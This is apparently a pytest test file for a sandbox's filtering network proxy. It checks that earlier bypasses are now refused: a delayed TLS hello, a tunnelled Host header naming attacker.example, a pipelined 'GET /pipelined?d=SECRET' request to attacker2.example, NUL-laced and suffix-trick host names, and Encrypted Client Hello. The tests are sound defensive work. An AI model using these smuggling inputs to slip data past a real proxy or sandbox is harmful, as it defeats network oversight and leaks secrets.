"""What the sandbox's proxy carries to an allowed host, judged by what that host receives
(attack7's A7-1 and A7-2): a tunnel carries a TLS session or one HTTP request for the host it
was allowed for (or another allowed name), judged from the client's first bytes however late
they come; a plain-HTTP request is carried alone, framed as it says, never a second one."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Iterator

import pytest

from hermes_tui.core.tools import netproxy
from hermes_tui.core.tools.netproxy import FilteringProxy


class Upstream:
    """An allowed host on the loopback that records every byte each connection brings; it
    answers 204 once a request head has come (or at once, when it speaks first)."""

    def __init__(self, *, speaks_first: bool = False) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.speaks_first = speaks_first
        self.done = threading.Semaphore(0)
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                peer, _ = self.server.accept()
            except OSError:
                return
            threading.Thread(target=self._one, args=(peer,), daemon=True).start()

    def _one(self, peer: socket.socket) -> None:
        peer.settimeout(10)
        data = b""
        with contextlib.suppress(OSError), peer:
            if self.speaks_first:
                peer.sendall(b"220 hello\r\n")
            while b"\r\n\r\n" not in data and (chunk := peer.recv(65536)):
                data += chunk
            if b"\r\n\r\n" in data:
                peer.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")
                peer.shutdown(socket.SHUT_WR)
            while chunk := peer.recv(65536):
                data += chunk
        self.received.append(data)
        self.done.release()

    def wait(self, connections: int) -> list[bytes]:
        for _ in range(connections):
            assert self.done.acquire(timeout=20), "the upstream connection never ended"
        return self.received


@pytest.fixture
def upstream() -> Iterator[Upstream]:
    host = Upstream()
    yield host
    host.server.close()


def _exchange(proxy: FilteringProxy, *parts: bytes, pause: float = 0.0) -> bytes:
    """Send `parts` over one connection to the proxy (after the first, `pause` seconds of
    silence), then read everything it answers until it closes."""
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(20)
    client.connect(str(proxy.socket_path))
    answer = b""
    with client:
        for index, part in enumerate(parts):
            if index == 1 and pause:
                time.sleep(pause)
            with contextlib.suppress(OSError):
                client.sendall(part)
            if index == 0 and part.startswith(b"CONNECT"):
                answer += client.recv(4096)
        with contextlib.suppress(OSError):
            client.shutdown(socket.SHUT_WR)
            while chunk := client.recv(65536):
                answer += chunk
    return answer


def _proxy(asked: list[str]) -> FilteringProxy:
    proxy = FilteringProxy(["localhost"], ask=lambda host, _cmd: asked.append(host) or "deny")
    proxy.start()
    return proxy


def _hello(name: str) -> bytes:
    import ssl

    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def test_a_hello_sent_after_a_silence_is_judged_like_any_other(
    upstream: Upstream, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A7-1: the hello was judged only when it came within 5 s; after a pause the tunnel
    carried a session for any name. Now the first bytes are judged whenever they come, and a
    client silent past the bound gets nothing carried."""
    asked: list[str] = []
    proxy = _proxy(asked)
    connect = f"CONNECT localhost:{upstream.port} HTTP/1.1\r\n\r\n".encode()
    try:
        monkeypatch.setattr(netproxy, "FIRST_FLIGHT_SECONDS", 1.5)
        _exchange(proxy, connect, _hello("upload.pypi.org"), pause=0.3)
        _exchange(proxy, connect, _hello("localhost"), pause=0.3)
        monkeypatch.setattr(netproxy, "FIRST_FLIGHT_SECONDS", 0.2)
        _exchange(proxy, connect, _hello("localhost"), pause=0.6)  # silent past the bound
        received = upstream.wait(3)
    finally:
        proxy.close()
    assert asked == ["upload.pypi.org"]
    [carried] = [data for data in received if data]  # the timely hello for localhost
    assert carried.startswith(b"\x16\x03") and b"localhost" in carried
    assert not any(b"upload.pypi.org" in data for data in received)


def test_a_server_that_speaks_first_or_another_protocol_is_not_carried() -> None:
    """Only TLS and HTTP go through a tunnel: a banner from the server before the client said
    anything, or a first flight that is neither, closes it (nothing judged, nothing carried)."""
    banner = Upstream(speaks_first=True)
    asked: list[str] = []
    proxy = _proxy(asked)
    try:
        connect = f"CONNECT localhost:{banner.port} HTTP/1.1\r\n\r\n".encode()
        _exchange(proxy, connect, _hello("attacker.example"), pause=0.5)
        quiet = Upstream()
        connect = f"CONNECT localhost:{quiet.port} HTTP/1.1\r\n\r\n".encode()
        _exchange(proxy, connect, b"SSH-2.0-OpenSSH_9.6\r\nsecret")
        received = [*banner.wait(1), *quiet.wait(1)]
    finally:
        proxy.close()
        banner.server.close()
    assert received == [b"", b""] and asked == []


def test_http_in_a_tunnel_names_only_the_host_it_was_allowed_for(upstream: Upstream) -> None:
    """A7-2: `curl --proxytunnel -H 'Host: attacker…'` reached the allowed host's address with
    the attacker's Host (a CDN routes by it). The tunnelled request's Host is judged like the
    CONNECT name: another one is asked (denied here) and nothing goes up; the host's own
    request goes up alone, with Connection: close."""
    asked: list[str] = []
    proxy = _proxy(asked)
    connect = f"CONNECT localhost:{upstream.port} HTTP/1.1\r\n\r\n".encode()
    try:
        foreign = b"GET /t?d=SECRET HTTP/1.1\r\nHost: attacker.example\r\n\r\n"
        refused = _exchange(proxy, connect, foreign)
        own = f"GET /ok HTTP/1.1\r\nHost: localhost:{upstream.port}\r\n\r\n".encode()
        carried = _exchange(proxy, connect, own)
        absolute = f"GET http://attacker.example/ HTTP/1.1\r\nHost: localhost:{upstream.port}"
        odd = _exchange(proxy, connect, (absolute + "\r\n\r\n").encode())
        received = upstream.wait(3)
    finally:
        proxy.close()
    assert asked == ["attacker.example"]
    assert b" 403 " in refused and b" 400 " in odd and b" 204 " in carried
    assert not any(b"SECRET" in data or b"attacker" in data for data in received)
    [sent] = [data for data in received if data]
    assert sent.startswith(b"GET /ok HTTP/1.1\r\nHost: localhost:") and b"Connection: close" in sent


def test_a_second_request_on_one_connection_never_leaves(upstream: Upstream) -> None:
    """A7-2: after the first request's head the proxy forwarded every byte untouched, so a
    pipelined `GET /pipelined?d=<secret>` with `Host: attacker2.example` reached the allowed
    host. A body is forwarded as its framing says (Content-Length, chunked); a byte after it
    ends the connection; both framings at once are refused."""
    proxy = FilteringProxy(["localhost"])
    proxy.start()
    url = f"http://localhost:{upstream.port}"
    second = b"GET /pipelined?d=SECRET HTTP/1.1\r\nHost: attacker2.example\r\n\r\n"
    chunked = b"4\r\nabcd\r\n3;ext=1\r\nefg\r\n0\r\nX-T: 1\r\n\r\n"
    try:
        _exchange(proxy, f"GET {url}/first HTTP/1.1\r\nContent-Length: 0\r\n\r\n".encode() + second)
        _exchange(
            proxy,
            f"POST {url}/cl HTTP/1.1\r\nContent-Length: 5\r\n\r\n".encode() + b"hello" + second,
        )
        head = f"POST {url}/ch HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
        _exchange(proxy, head, chunked + second)
        both = (
            f"POST {url}/both HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n"
        )
        answer = _exchange(proxy, (both + "0\r\n\r\n").encode() + second)
        received = upstream.wait(3)
    finally:
        proxy.close()
    assert b" 400 " in answer
    assert not any(b"SECRET" in data or b"attacker2" in data for data in received)
    by_path = {data.split(b" ")[1]: data for data in received}
    assert set(by_path) == {b"/first", b"/cl", b"/ch"}
    assert by_path[b"/cl"].endswith(b"\r\n\r\nhello")
    assert by_path[b"/ch"].endswith(b"\r\n\r\n" + chunked)


def test_a_host_that_is_no_host_name_and_a_length_that_is_no_number_are_refused(
    upstream: Upstream,
) -> None:
    """A8-6: `Host: attacker.example?.localhost` passed the allowlist's suffix test, and a
    Content-Length of `²` (a digit to str.isdigit, not to int) raised in the proxy's thread."""
    proxy = FilteringProxy(["localhost"])
    proxy.start()
    connect = f"CONNECT localhost:{upstream.port} HTTP/1.1\r\n\r\n".encode()
    url = f"http://localhost:{upstream.port}/"
    try:
        answers = [
            _exchange(proxy, connect, f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            for host in ("attacker.example?.localhost", "attacker.example,localhost", "[localhost]")
        ]
        answers.append(
            _exchange(proxy, f"GET {url} HTTP/1.1\r\nContent-Length: ²\r\n\r\n".encode())
        )
        received = upstream.wait(3)  # the three tunnels' connections, each sent nothing
    finally:
        proxy.close()
    assert all(b" 400 " in answer for answer in answers), answers
    assert received == [b"", b"", b""]


def _crafted_hello(name: bytes, *extensions: tuple[int, bytes]) -> bytes:
    """A ClientHello made by hand: a server_name of any bytes, and other extensions."""
    entry = b"\x00" + len(name).to_bytes(2, "big") + name
    server_name = (len(entry)).to_bytes(2, "big") + entry
    found = [(0x0000, server_name), *extensions]
    ext = b"".join(kind.to_bytes(2, "big") + len(d).to_bytes(2, "big") + d for kind, d in found)
    body = b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
    body += len(ext).to_bytes(2, "big") + ext
    handshake = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(handshake).to_bytes(2, "big") + handshake


def test_a_hello_whose_name_is_no_host_name_or_is_hidden_is_not_carried(
    upstream: Upstream,
) -> None:
    """attack9's A9-11: the hello's name was judged by its suffix alone, so `upload.pypi.org`
    + NUL + `.localhost` (a front end reading a C string routes to PyPI) went through to an
    allowed name's address; and a hello with Encrypted Client Hello went through on its outer
    name, the name the CDN serves hidden inside."""
    asked: list[str] = []
    proxy = _proxy(asked)
    connect = f"CONNECT localhost:{upstream.port} HTTP/1.1\r\n\r\n".encode()
    odd = [b"upload.pypi.org\x00.localhost", b"attacker.example/.localhost", b"a b.localhost"]
    try:
        for name in odd:
            _exchange(proxy, connect, _crafted_hello(name))
        _exchange(proxy, connect, _crafted_hello(b"localhost", (0xFE0D, b"\x00\x01\x02\x03")))
        _exchange(proxy, connect, _crafted_hello(b"localhost"))  # the control: carried
        received = upstream.wait(5)
    finally:
        proxy.close()
    [carried] = [data for data in received if data]
    assert carried == _crafted_hello(b"localhost") and asked == []
